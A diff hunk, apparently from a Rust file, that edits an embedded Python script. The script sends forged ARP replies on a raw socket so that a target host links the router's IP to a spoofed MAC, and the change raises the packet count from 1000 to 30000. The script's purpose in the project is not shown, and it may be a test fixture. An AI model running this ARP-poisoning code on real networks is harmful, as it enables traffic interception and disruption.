@@ -30,7 +30,7 @@ one = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 one.bind((sys.argv[1], 0x0806))
 mac, to = bytes.fromhex("020000000099"), bytes.fromhex(sys.argv[4].replace(":", ""))
 own, router = map(socket.inet_aton, sys.argv[2:4])
-for n in range(1000):
+for n in range(30000):
     one.send(to + mac + bytes.fromhex("08060001080006040002") + mac + router + to + own)
     time.sleep(0.005)
 "#;
